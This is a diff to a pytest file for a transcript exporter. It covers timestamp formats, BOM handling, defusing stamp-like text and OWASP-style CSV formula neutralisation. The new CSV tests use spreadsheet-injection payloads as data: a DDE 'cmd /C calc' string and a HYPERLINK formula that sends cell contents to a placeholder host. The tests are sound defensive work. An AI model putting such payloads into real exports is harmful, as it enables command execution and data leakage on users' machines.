@@ -29,10 +29,11 @@ EVAL = REPO.parent / "shared" / "eval"
 ALL = list(WRITERS)
 TENTHS = 0.05 + 1e-6  # rounded to tenths: within half a tenth
 MILLIS = 0.0005 + 1e-6
+WHOLE = 1.0  # whole seconds rounded down: never after the start, less than a second before
 TOLERANCE = {
-    "txt": TENTHS,
-    "docx": TENTHS,
-    "maxqda": TENTHS,
+    "txt": WHOLE,
+    "docx": WHOLE,
+    "maxqda": WHOLE,
     "nvivo": TENTHS,
     "docx_table": TENTHS,
     "srt": MILLIS,
@@ -62,23 +63,28 @@ def hms(text: str) -> float:
 SPEAKER_TEXT = re.compile(r"(.*?): (.*)", re.S)
 
 
+STAMP = r"\[(\d\d:\d\d:\d\d)\]"  # [hh:mm:ss]
+
+
 def read_txt(data: bytes) -> list[Unit]:
+    """Speaker first (for speaker auto-coding), then the turn's stamp: ``Speaker: [hh:mm:ss] text``."""
     units = []
     for para in data.decode("utf-8").split("\n\n"):
         if not para.strip():
             continue
         assert "\n" not in para.strip("\n"), "a turn spans lines"
-        m = re.fullmatch(r"\[(\d\d:\d\d:\d\d\.\d)\] (.*?): (.*)", para.strip("\n"))
+        m = re.fullmatch(r"(.*?): " + STAMP + r" (.*)", para.strip("\n"))
         assert m, para
-        units.append(Unit(hms(m[1]), None, m[2], m[3]))
+        units.append(Unit(hms(m[2]), None, m[1], m[3]))
     return units
 
 
 def read_docx(data: bytes) -> list[Unit]:
+    """NVivo's rule: every paragraph starts with a stamp (no heading): ``[hh:mm:ss] **Speaker:** text``."""
     doc = docx.Document(io.BytesIO(data))
     units = []
-    for p in doc.paragraphs[1:]:  # [0] is the heading
-        m = re.fullmatch(r"\[(\d\d:\d\d:\d\d\.\d)\] (.*?): (.*)", p.text)
+    for p in doc.paragraphs:
+        m = re.fullmatch(STAMP + r" (.*?): (.*)", p.text)
         assert m, p.text
         bold = [r.text for r in p.runs if r.bold]
         assert bold == [f"{m[2]}:"], "the speaker name (and only it) is bold"
@@ -86,31 +92,18 @@ def read_docx(data: bytes) -> list[Unit]:
     return units
 
 
-MARKER = re.compile(r"#(\d\d:\d\d:\d\d)-(\d)#")
-
-
-def read_maxqda(data: bytes) -> tuple[list[Unit], float]:
+def read_maxqda(data: bytes) -> list[Unit]:
+    """One paragraph per segment, blank line between, ``[hh:mm:ss]Speaker: text`` (BOM, CRLF)."""
     text = data.decode("utf-8")
     assert text.startswith("\ufeff")
     text = text[1:]
     assert "\n" not in text.replace("\r\n", ""), "line ends are CRLF"
-    units, end = [], None
-    paras = [p for p in text.split("\r\n\r\n") if p.strip()]
-    for i, para in enumerate(paras):
-        pieces = MARKER.split(para)
-        assert pieces[0] == "", "each turn starts with a time marker"
-        speaker = None
-        for k in range(1, len(pieces), 3):
-            t = hms(pieces[k]) + int(pieces[k + 1]) / 10
-            chunk = pieces[k + 2].strip()
-            if not chunk:  # the end marker after the last segment
-                assert i == len(paras) - 1 and k + 3 == len(pieces)
-                end = t
-                continue
-            if speaker is None:
-                speaker, chunk = SPEAKER_TEXT.fullmatch(chunk).groups()
-            units.append(Unit(t, None, speaker, chunk))
-    return units, end
+    units = []
+    for para in (p for p in text.split("\r\n\r\n") if p.strip()):
+        m = re.fullmatch(STAMP + r"(\S.*?): (.*)", para.strip("\r\n"))
+        assert m, para
+        units.append(Unit(hms(m[1]), None, m[2], m[3]))
+    return units
 
 
 def read_nvivo(data: bytes) -> list[Unit]:
@@ -141,8 +134,9 @@ def read_docx_table(data: bytes) -> list[Unit]:
 
 
 def read_srt(data: bytes) -> list[Unit]:
+    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
     out = []
-    blocks = data.decode("utf-8").split("\n\n")
+    blocks = data.decode("utf-8-sig").split("\n\n")
     for n, block in enumerate(blocks, 1):
         index, timing, *text = block.strip("\n").split("\n")
         assert index == str(n) and len(text) == 1
@@ -153,17 +147,17 @@ def read_srt(data: bytes) -> list[Unit]:
 
 
 def read_vtt(data: bytes) -> list[Unit]:
-    head, *blocks = data.decode("utf-8").split("\n\n")
+    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM"
+    head, *blocks = data.decode("utf-8-sig").split("\n\n")
     assert head == "WEBVTT"
     out = []
     for block in blocks:
         timing, *text = block.strip("\n").split("\n")
         assert len(text) == 1
         a, b = re.fullmatch(r"(\d\d:\d\d:\d\d\.\d{3}) --> (\d\d:\d\d:\d\d\.\d{3})", timing).groups()
-        assert "-->" not in text[0]
-        m = re.fullmatch(r"<v ([^>]*)>([^<>]*)", text[0])
-        assert m, text[0]
-        out.append(Unit(hms(a), hms(b), html.unescape(m[1]), html.unescape(m[2])))
+        assert "-->" not in text[0] and "<" not in text[0], "plain cue text, no voice span"
+        m = re.fullmatch(r"(.*?):(?: (.*))?", html.unescape(text[0]))
+        out.append(Unit(hms(a), hms(b), m[1], m[2] or ""))
     return out
 
 
@@ -171,6 +165,11 @@ def read_csv(data: bytes, interview_id: str) -> list[Unit]:
     rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
     assert rows[0] == ["interview", "segment", "start", "end", "speaker_id", "speaker", "text"]
     return [Unit(float(r[2]), float(r[3]), r[5], r[6]) for r in rows[1:] if r[0] == interview_id]
+
+
+def csv_shown(text: str) -> str:
+    """OWASP's neutralisation, written here from its rule: a leading ' before a formula start."""
+    return "'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
 
 
 def read_qdpx_units(data: bytes, interview_id: str) -> list[Unit]:
@@ -221,7 +220,7 @@ def read_back(fmt: str, data: bytes, t: Transcript) -> list[Unit]:
         "docx_table": read_docx_table,
         "srt": read_srt,
         "vtt": read_vtt,
-        "maxqda": lambda d: read_maxqda(d)[0],
+        "maxqda": read_maxqda,
         "csv": lambda d: read_csv(d, t.interview_id),
         "qdpx": lambda d: read_qdpx_units(d, t.interview_id),
     }
@@ -231,6 +230,8 @@ def read_back(fmt: str, data: bytes, t: Transcript) -> list[Unit]:
 def assert_units(got: list[Unit], want: list[Unit], tol: float) -> None:
     assert [(u.speaker, u.text) for u in got] == [(u.speaker, u.text) for u in want]
     for g, w in zip(got, want, strict=True):
+        if tol == WHOLE:
+            assert 0 <= w.start - g.start < WHOLE, (g, w)
         assert abs(g.start - w.start) <= tol, (g, w)
         if w.end is not None:
             assert abs(g.end - w.end) <= tol, (g, w)
@@ -316,13 +317,6 @@ def test_json_is_exactly_the_shareable_transcript(make):
     assert Transcript.from_dict(json.loads(render("json", t))) == t
 
 
-@pytest.mark.parametrize("make", reference_transcripts())
-def test_maxqda_ends_with_the_last_segments_end_time(make):
-    t = make()
-    _, end = read_maxqda(render("maxqda", t))
-    assert abs(end - max(s.end for s in t.segments)) <= TENTHS
-
-
 # Text that breaks formats, and the one line every paragraph/row/cue format shows for it.
 NASTY = [
     ("tab", "before\tafter", "before after"),
@@ -341,6 +335,16 @@ NASTY = [
     ("control-chars", "bell\x07end\x0bvt", "bell end vt"),
     ("unicode-line-separator", "left\u2028right", "left right"),
     ("formula", "=SUM(A1:A2)", "=SUM(A1:A2)"),
+    ("formula-plus", "+1 555 0100", "+1 555 0100"),
+    ("formula-minus", "-2+3 and more", "-2+3 and more"),
+    ("formula-at", "@SUM(1,2)", "@SUM(1,2)"),
+    ("formula-tab", "\t=1+1", "=1+1"),
+    ("formula-cr", "\r=1+1", "=1+1"),
+    (
+        "stamp-like",
+        "at [00:01:02] and {00:00:03} and #00:00:04.5#",
+        "at [00:01:02] and {00:00:03} and #00:00:04.5#",
+    ),
 ]
 
 
@@ -361,6 +365,8 @@ def shown_text(fmt: str, one_line: str) -> str:
     """What a reader gets back: the one line, with each format's documented escape undone."""
     if fmt == "srt":
         return one_line.replace("-->", "->")  # SRT cannot escape; no line may look like a timing line
+    if fmt in ("txt", "docx", "maxqda"):  # a stamp reader must find only our stamps
+        return one_line.replace("[0", "\uff3b0").replace("{0", "\uff5b0").replace("#0", "\uff030")
     return one_line
 
 
@@ -371,7 +377,9 @@ def test_text_that_breaks_formats_survives(fmt, case, text, line):
     data = render(fmt, t)
     got = read_back(fmt, data, t)
     if fmt == "csv":
-        want_text = {"control-chars": "bell end vt"}.get(case, text)  # CSV keeps text; only controls go
+        want_text = csv_shown(
+            {"control-chars": "bell end vt"}.get(case, text)
+        )  # controls go, formulas defused
         want = [Unit(0.0, 1.0, "Interviewer", "Before we start."), Unit(1.26, 2.34, "Participant", want_text)]
         want.append(Unit(2.5, 3.05, "Interviewer", "And after."))
     else:
@@ -386,14 +394,15 @@ def test_json_keeps_text_that_breaks_formats_exactly(case, text, line):
     assert Transcript.from_dict(json.loads(render("json", t))).segments[1].text == text
 
 
-@pytest.mark.parametrize("position", [1, 2], ids=["turn-start", "inside-turn"])
-def test_maxqda_defuses_text_that_looks_like_a_time_marker(position):
-    t = nasty_transcript("An answer.")
-    t.segments.insert(2, Segment(5, 2.4, 2.45, "Yes.", "S2"))
-    t.segments[position].text = "see #00:00:05-0# here"
-    units, _ = read_maxqda(render("maxqda", t))
-    assert [u.start for u in units] == [0.0, 1.3, 2.4, 2.5]  # no fake marker at 5 s
-    assert units[position].text.replace("\uff03", "#") == "see #00:00:05-0# here"
+@pytest.mark.parametrize("fmt", ["txt", "maxqda"])
+@pytest.mark.parametrize(
+    "fake", ["[00:00:05]", "[05:00]", "{00:00:05}", "#00:00:05.0#", "#00:00:05-0#", "[00.00.05]"]
+)
+def test_text_that_looks_like_a_time_stamp_is_defused(fmt, fake):
+    t = nasty_transcript(f"see {fake} here")
+    data = render(fmt, t).decode("utf-8-sig")
+    assert fake not in data
+    assert len(re.findall(STAMP, data)) == len(read_back(fmt, render(fmt, t), t))  # ours, one per unit
 
 
 def test_zip_formats_carry_no_clock_time():
@@ -468,7 +477,7 @@ def test_timestamps_off_leaves_readable_transcripts_without_times():
     txt = render("txt", t, cfg).decode()
     assert "[" not in txt and txt.startswith("Interviewer: Thanks for coming in today.")
     doc = docx.Document(io.BytesIO(render("docx", t, cfg)))
-    assert doc.paragraphs[1].text.startswith("Interviewer: ")
+    assert doc.paragraphs[0].text.startswith("Interviewer: ")
 
 
 # ---------------------------------------------------------------------------------------------
@@ -546,3 +555,33 @@ def test_interview_without_segments_still_gets_its_files(tmp_path):
     assert len(paths) == 10
     assert read_nvivo((tmp_path / "silent" / "silent.nvivo.txt").read_bytes()) == []
     assert read_qdpx(tmp_path / "project.qdpx").interviews["silent"].segments == []
+
+
+# Cells a spreadsheet would evaluate (OWASP "CSV Injection"), English and Danish.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?q="&A1,"Click here")',
+    '=HYPERLINK("http://eksempel.invalid";"Klik her for at se mere")',
+    "+45 12 34 56 78",
+    "-Ja, det tror jeg nok",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_csv_cells_that_would_start_a_formula_are_neutralised(text):
+    t = nasty_transcript(text)
+    t.speakers[1] = Speaker("=cmd|' /C calc'!A0", "@Søren")
+    t.segments[1].speaker = "=cmd|' /C calc'!A0"
+    rows = list(csv.reader(io.StringIO(render("csv", t).decode("utf-8"), newline="")))
+    row = rows[2]
+    assert row[6] == "'" + text and row[5] == "'@Søren" and row[4] == "'=cmd|' /C calc'!A0"
+    for r in rows[1:]:  # no cell of any row starts a formula
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in r), r
+
+
+def test_csv_keeps_ordinary_text_and_numbers_unchanged():
+    t = nasty_transcript("Det var 3-4 år siden, ca. -5 grader.")
+    row = list(csv.reader(io.StringIO(render("csv", t).decode("utf-8"), newline="")))[2]
+    assert row[1:4] == ["1", "1.260", "2.340"] and row[6] == "Det var 3-4 år siden, ca. -5 grader."
